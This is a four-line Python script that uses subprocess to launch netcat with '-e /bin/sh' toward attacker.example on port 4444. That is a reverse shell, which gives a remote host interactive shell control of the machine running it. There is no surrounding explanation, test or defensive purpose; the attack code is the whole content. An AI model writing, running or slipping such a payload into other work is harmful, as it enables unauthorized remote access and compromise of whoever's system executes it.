import subprocess

proc = subprocess.Popen("nc -e /bin/sh attacker.example 4444", shell=True)
proc.wait()
